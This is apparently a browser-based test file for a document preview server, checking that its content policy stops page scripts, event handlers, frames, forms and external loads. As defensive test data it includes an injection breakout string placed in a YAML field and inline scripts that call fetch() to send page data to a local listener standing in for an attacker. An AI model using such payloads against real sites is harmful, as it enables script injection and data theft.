// The preview in a real browser, with JavaScript on as in the author's own: a script, an event
// handler or a style that reaches out, whether the data smuggles it in or the page holds it,
// neither runs nor connects anywhere; the preview's own reload script still reloads the page.
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import puppeteer, { type Browser, type Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findBrowser } from '../../src/print/find-browser.ts';
import { startWatch } from '../../src/watch/index.ts';
import { createPreviewServer } from '../../src/watch/server.ts';

const executablePath = findBrowser();

async function until(check: () => boolean, ms = 120_000): Promise<void> {
  const t0 = Date.now();
  while (!check()) {
    if (Date.now() - t0 > ms) throw new Error('tidak terjadi dalam batas waktu');
    await new Promise((r) => setTimeout(r, 50));
  }
}
const dir = mkdtempSync(join(tmpdir(), 'kinerja-watch-browser-'));
let browser: Browser | undefined;
/** Where anything that leaks would connect: every connection, and every request sent on one, counted. */
let listener: Server;
let connections = 0;
let requests = 0;
let listenerPort = 0;

beforeAll(async () => {
  listener = createServer((s) => {
    connections++;
    s.once('data', () => {
      requests++;
      s.destroy();
    });
    s.on('error', () => undefined);
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  listenerPort = (listener.address() as { port: number }).port;
  if (!executablePath) return;
  // The browser's own temporary files go to our folder, removed afterwards.
  browser = await puppeteer.launch({
    executablePath,
    headless: true,
    args: ['--no-sandbox', '--disable-gpu', '--no-first-run'],
    userDataDir: join(dir, 'profil'),
    env: { ...process.env, TMPDIR: dir },
  });
});
afterAll(async () => {
  await browser?.close();
  await new Promise((r) => listener.close(r));
  rmSync(dir, { recursive: true, force: true });
});

describe.skipIf(!executablePath)('kinerja watch in a browser', () => {
  /** A page served by the preview server, open in the browser until `body` is done. */
  async function open(html: string, body: (page: Page, announce: () => void) => Promise<void>): Promise<void> {
    let port = 0;
    let versi = 1;
    const p = createPreviewServer(() => ({ html, versi, assets: new Map() }), () => port, () => undefined);
    await new Promise<void>((r) => p.server.listen(0, '127.0.0.1', r));
    port = (p.server.address() as { port: number }).port;
    const page = await browser!.newPage();
    try {
      await page.goto(`http://127.0.0.1:${port}/`, { waitUntil: 'load' });
      await body(page, () => p.announce(++versi));
    } finally {
      await page.close();
      await p.close();
    }
  }
  const out = () => `http://127.0.0.1:${listenerPort}`;

  it('runs no script of the page but its reload script, and loads nothing from elsewhere', async () => {
    const html = `<!doctype html><html><head><meta charset="utf-8"><title>awal</title>
<style>body { background: url(${out()}/gaya-latar) } @import url(${out()}/impor.css);</style>
<link rel="stylesheet" href="${out()}/luar.css"><link rel="prefetch" href="${out()}/prefetch"><link rel="icon" href="${out()}/ikon">
</head><body><p>pratinjau</p>
<script>document.title = 'inline'; fetch('${out()}/fetch');</script>
<img src="/tidak-ada.png" onerror="document.title = 'onerror'">
<img src="${out()}/gambar.png"><svg><image href="${out()}/svg.png"/></svg>
<script src="${out()}/luar.js"></script><object data="${out()}/objek"></object>
<video src="${out()}/video"></video><audio src="${out()}/audio"></audio>
<script src="/muat-ulang.js"></script></body></html>`;
    const before = connections;
    await open(html, async (page, announce) => {
      const blocked: string[] = [];
      page.on('console', (m) => {
        if (/Content Security Policy/.test(m.text())) blocked.push(m.text());
      });
      await new Promise((r) => setTimeout(r, 500));
      expect(await page.title()).toBe('awal');
      expect(connections - before).toBe(0);

      // The reload script is the one script that runs: a save reloads the page.
      const reloaded = page.waitForNavigation({ timeout: 10_000 });
      announce();
      await reloaded;
      await new Promise((r) => setTimeout(r, 300));
      expect(await page.title()).toBe('awal');
      expect(blocked.length).toBeGreaterThan(0); // the browser itself says what it refused
      expect(connections - before).toBe(0);
    });
  }, 60_000);

  it('sends no request to a frame or a form target from elsewhere', async () => {
    // For these Chrome may open a socket ahead (a preconnect, no byte sent) before the policy
    // refuses the load: no header can stop that, the escaping of the data keeps such elements out.
    const html = `<!doctype html><html><head><title>awal</title></head><body>
<iframe src="${out()}/bingkai"></iframe><form action="${out()}/kirim" method="post"><input name="d" value="rahasia"><button id="kirim">kirim</button></form>
<a id="tautan" href="javascript:document.title='tautan'">tautan</a><script src="/muat-ulang.js"></script></body></html>`;
    const before = requests;
    await open(html, async (page) => {
      await page.click('#kirim');
      await page.click('#tautan');
      await new Promise((r) => setTimeout(r, 500));
      expect(await page.title()).toBe('awal');
      expect(requests - before).toBe(0);
    });
  }, 60_000);

  it('keeps the page being read when a save brings a new PDF, drawn by PDF.js under the page policy', async () => {
    const folder = join(dir, 'baca');
    cpSync('test/fixtures/minimal', folder, { recursive: true });
    const w = await startWatch({ folder, dokumen: 'lkjip', port: 0, log: () => undefined });
    const page = await browser!.newPage();
    const refused: string[] = [];
    page.on('console', (m) => {
      // A failed load is told below with its address (the browser asks for a favicon on its own).
      if (m.type() === 'error' && !m.text().startsWith('Failed to load resource')) refused.push(m.text());
    });
    page.on('pageerror', (e) => refused.push(String(e)));
    page.on('response', (r) => {
      if (r.status() >= 400 && !r.url().endsWith('/favicon.ico')) refused.push(`${r.status()} ${r.url()}`);
    });
    try {
      await page.setViewport({ width: 1200, height: 900 });
      await until(() => w.versi() >= 1);
      await w.tenang();
      await page.goto(w.url, { waitUntil: 'load' });
      const pertama = w.keadaan().pdf;
      await page.waitForFunction((v) => document.body.dataset.tergambar === String(v), { timeout: 60_000 }, pertama);
      const halaman = await page.evaluate(() => document.querySelectorAll('#pdf .hal').length);
      expect(halaman).toBeGreaterThan(6);
      // Drawn, not blank: the page has dark pixels (text) on its canvas.
      expect(await page.evaluate(() => {
        const c = document.querySelector('#pdf .hal canvas') as HTMLCanvasElement;
        const d = c.getContext('2d')!.getImageData(0, 0, c.width, c.height).data;
        let gelap = 0;
        for (let i = 0; i < d.length; i += 4) if (d[i]! < 100) gelap++;
        return gelap;
      })).toBeGreaterThan(100);
      // The author reads page 6, a third of the way down.
      await page.evaluate(() => {
        const wadah = document.getElementById('pdf')!;
        const h = wadah.querySelectorAll<HTMLElement>('.hal')[5]!;
        wadah.scrollTop = h.offsetTop + h.offsetHeight / 3;
      });
      await page.waitForFunction(() => document.body.dataset.halaman === '6');
      // Pages are drawn as they come near the screen: page 6 is drawn now, the last one not yet.
      await page.waitForFunction(() => document.querySelectorAll<HTMLCanvasElement>('#pdf .hal canvas')[5]!.width > 300, { timeout: 30_000 });
      expect(await page.evaluate(() => [...document.querySelectorAll<HTMLCanvasElement>('#pdf .hal canvas')].at(-1)!.width)).toBe(300);
      expect(await page.$eval('#buka-pdf', (a) => (a as HTMLAnchorElement).href)).toMatch(/dokumen\.pdf\?v=\d+#page=6$/);
      // A save: a new PDF, shown at the same page and place.
      const f = join(folder, '2024', 'realisasi.yaml');
      writeFileSync(f, readFileSync(f, 'utf8').replace(/nilai: 1\d\d(\.\d+)?\n/, 'nilai: 121.5\n'));
      await until(() => w.keadaan().pdf > pertama);
      const kedua = w.keadaan().pdf;
      await page.waitForFunction((v) => document.body.dataset.tampil === String(v), { timeout: 60_000 }, kedua);
      const letak = await page.evaluate(() => {
        const wadah = document.getElementById('pdf')!;
        const h = wadah.querySelectorAll<HTMLElement>('.hal')[5]!;
        return { halaman: document.body.dataset.halaman, dalam: (wadah.scrollTop - h.offsetTop) / h.offsetHeight };
      });
      expect(letak.halaman).toBe('6');
      expect(letak.dalam).toBeCloseTo(1 / 3, 1);
      expect(refused).toEqual([]); // PDF.js ran under the page's policy: nothing refused, no error
    } finally {
      await page.close();
      await w.close();
    }
  }, 180_000);

  it('a running-head breakout in the data runs nothing and reaches nothing in the preview', async () => {
    const folder = join(dir, 'dinas');
    cpSync('test/fixtures/minimal', folder, { recursive: true });
    const out = `http://127.0.0.1:${listenerPort}`;
    const before = connections;
    // From the issue: CSS first (a background from elsewhere), then out of the style into a script.
    const breakout = `"; } body { background: url(${out}/latar) } </style><script>document.title='dibobol'; fetch('${out}/kirim?d=' + document.body.innerText.length)</script><img src=x onerror="document.title='onerror'"><style> x { content: "`;
    const f = join(folder, 'instansi.yaml');
    writeFileSync(f, readFileSync(f, 'utf8').replace('nama: Dinas Contoh Kabupaten Uji', `nama: Dinas Contoh Kabupaten Uji\nsingkatan: ${JSON.stringify(breakout)}`));
    const w = await startWatch({ folder, dokumen: 'lkjip', port: 0, log: () => undefined });
    const page = await browser!.newPage();
    try {
      await page.goto(w.url, { waitUntil: 'load' });
      await new Promise((r) => setTimeout(r, 500));
      expect(await page.title()).not.toMatch(/dibobol|onerror/);
      expect(connections - before).toBe(0);
      // Whatever the page became (the document, or an error page about the data), its text is there.
      expect(await page.evaluate(() => document.body.innerText.length)).toBeGreaterThan(0);
    } finally {
      await page.close();
      await w.close();
    }
  }, 60_000);
});
